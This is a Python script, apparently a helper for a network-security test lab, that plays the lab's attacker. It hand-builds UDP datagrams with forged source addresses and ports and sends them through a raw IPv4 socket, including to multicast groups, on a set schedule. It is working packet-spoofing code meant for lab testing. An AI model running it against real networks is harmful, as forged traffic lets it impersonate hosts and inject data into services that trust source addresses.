#!/usr/bin/python3
# Sends UDP datagrams with any source address and port through a raw IPv4
# socket (IP_HDRINCL), as an attacker on the LAN can: the lab's attacker.
#   spoof.py PACKETS.json ROUNDS INTERVAL_MS
# PACKETS.json: [{"src": "10.77.0.1", "sport": 4444, "dst": "239.77.0.1", "dport": 9000, "hex": "..."}]
# Every round sends every packet once; prints the number sent.
import json, socket, struct, sys, time

def checksum(b):
    if len(b) % 2:
        b += b'\0'
    s = sum(struct.unpack('!%dH' % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xffff)
    s += s >> 16
    return ~s & 0xffff

def datagram(p):
    payload = bytes.fromhex(p['hex'])
    udp = struct.pack('!HHHH', p['sport'], p['dport'], 8 + len(payload), 0) + payload
    src, dst = socket.inet_aton(p['src']), socket.inet_aton(p['dst'])
    ttl = 1 if 224 <= dst[0] <= 239 else 64
    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(udp), 0, 0, ttl, 17, 0, src, dst)
    ip = ip[:10] + struct.pack('!H', checksum(ip)) + ip[12:]
    return ip + udp, p['dst']

packets = [datagram(p) for p in json.load(open(sys.argv[1]))]
rounds, interval = int(sys.argv[2]), float(sys.argv[3]) / 1000
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
sent = 0
for _ in range(rounds):
    for raw, dst in packets:
        try:
            s.sendto(raw, (dst, 0))
            sent += 1
        except OSError:
            pass
    time.sleep(interval)
print(sent, flush=True)
